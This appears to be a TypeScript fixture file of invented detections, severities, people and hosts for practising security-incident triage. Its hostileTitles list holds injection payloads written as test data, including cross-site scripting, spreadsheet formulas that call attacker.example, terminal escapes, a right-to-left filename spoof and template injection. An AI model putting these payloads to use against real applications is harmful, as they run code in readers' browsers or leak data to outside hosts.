/** The detections, people and machines in the practice data. All of them are invented. */

export type Severity = 'High' | 'Medium' | 'Low' | 'Informational';

export interface Detection {
  readonly title: string;
  readonly severity: Severity;
  readonly product: 'Azure Sentinel' | 'Microsoft Defender XDR' | 'Microsoft Entra ID Protection';
  readonly tactics: readonly string[];
  readonly techniques: readonly string[];
  /** The entity a title is about: a person, a machine, or none. */
  readonly about: 'user' | 'host' | 'none';
}

const detection = (
  severity: Severity,
  product: Detection['product'],
  title: string,
  about: Detection['about'],
  tactics: readonly string[],
  techniques: readonly string[],
): Detection => ({ title, severity, product, tactics, techniques, about });

const sentinel = 'Azure Sentinel';
const defender = 'Microsoft Defender XDR';
const entra = 'Microsoft Entra ID Protection';

export const detections: readonly [Detection, ...Detection[]] = [
  detection('High', defender, 'Credential dumping tool run', 'host', ['CredentialAccess'], ['T1003']),
  detection('High', defender, 'Ransomware behavior stopped', 'host', ['Impact'], ['T1486']),
  detection(
    'High',
    sentinel,
    'Sign-in from an anonymising network after MFA reset',
    'user',
    ['InitialAccess', 'Persistence'],
    ['T1078', 'T1556'],
  ),
  detection(
    'High',
    sentinel,
    'Service principal granted a privileged role',
    'none',
    ['PrivilegeEscalation'],
    ['T1098'],
  ),
  detection(
    'Medium',
    entra,
    'Password spray against several accounts',
    'none',
    ['CredentialAccess'],
    ['T1110'],
  ),
  detection('Medium', entra, 'Unfamiliar sign-in properties', 'user', ['InitialAccess'], ['T1078']),
  detection(
    'Medium',
    sentinel,
    'Inbox rule forwards mail to an external address',
    'user',
    ['Collection', 'Exfiltration'],
    ['T1114'],
  ),
  detection('Medium', sentinel, 'Mass download from a document library', 'user', ['Collection'], ['T1530']),
  detection('Medium', defender, 'Suspicious PowerShell command line', 'host', ['Execution'], ['T1059']),
  detection(
    'Medium',
    sentinel,
    'Outbound connection to a newly registered domain',
    'host',
    ['CommandAndControl'],
    ['T1071'],
  ),
  detection('Medium', defender, 'Phishing link clicked', 'user', ['InitialAccess'], ['T1566']),
  detection(
    'Low',
    sentinel,
    'Many failed sign-ins followed by a success',
    'user',
    ['CredentialAccess'],
    ['T1110'],
  ),
  detection(
    'Low',
    sentinel,
    'Diagnostic settings of a resource removed',
    'none',
    ['DefenseEvasion'],
    ['T1562'],
  ),
  detection('Low', defender, 'Unwanted application installed', 'host', ['Persistence'], ['T1176']),
  detection('Low', sentinel, 'Firewall rule opened to the internet', 'none', ['DefenseEvasion'], ['T1562']),
  detection('Low', sentinel, 'Rare port scan inside the network', 'host', ['Discovery'], ['T1046']),
  detection(
    'Informational',
    defender,
    'Mail reported by a user as junk',
    'user',
    ['InitialAccess'],
    ['T1566'],
  ),
  detection(
    'Informational',
    sentinel,
    'Sign-in from a country not seen in 90 days',
    'user',
    ['InitialAccess'],
    ['T1078'],
  ),
  detection(
    'Informational',
    sentinel,
    'Log source silent for an hour',
    'none',
    ['DefenseEvasion'],
    ['T1562'],
  ),
];

/** The share of incidents with each severity. */
export const severityShares: Readonly<Record<Severity, number>> = {
  High: 0.12,
  Medium: 0.36,
  Low: 0.34,
  Informational: 0.18,
};

/**
 * Titles that an attacker would choose. Such text gets into a title through a mail subject or a file name:
 * markup, a formula, terminal escapes, right-to-left text, a line break, great length.
 */
export const hostileTitles: readonly [string, ...string[]] = [
  '<img src=x onerror="alert(document.domain)">',
  '=HYPERLINK("http://attacker.example/?"&A1,"Open incident")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u001b[2J\u001b[31mAll clear\u001b[0m\u001b]0;owned\u0007',
  'Invoice \u202Efdp.exe',
  'Closed as benign\r\n2026-01-01 INFO everything is fine',
  '</script><script>fetch("http://attacker.example")</script>',
  `Long ${'x'.repeat(2000)}`,
  '{{constructor.constructor("return process")()}} ${7*7}',
  '\u0000\uFEFF\u200B',
];

export interface Person {
  readonly name: string;
  readonly account: string;
}

const person = (name: string): Person => ({ name, account: name.toLowerCase().replace(' ', '.') });

export const people: readonly [Person, ...Person[]] = [
  person('Amara Okafor'),
  person('Bram Visser'),
  person('Chiara Conti'),
  person('Dmitri Volkov'),
  person('Elif Demir'),
  person('Farid Haddad'),
  person('Grace Mwangi'),
  person('Hana Novak'),
  person('Ines Duarte'),
  person('Jonas Berg'),
  person('Kavya Rao'),
  person('Liam Walsh'),
];

export const analysts: readonly [Person, ...Person[]] = [
  person('Mina Sato'),
  person('Noah Fischer'),
  person('Olga Petrova'),
];

export const hosts: readonly [string, ...string[]] = [
  'vm-web-01',
  'vm-web-02',
  'vm-db-01',
  'lt-0412',
  'lt-0977',
  'dc-01',
];
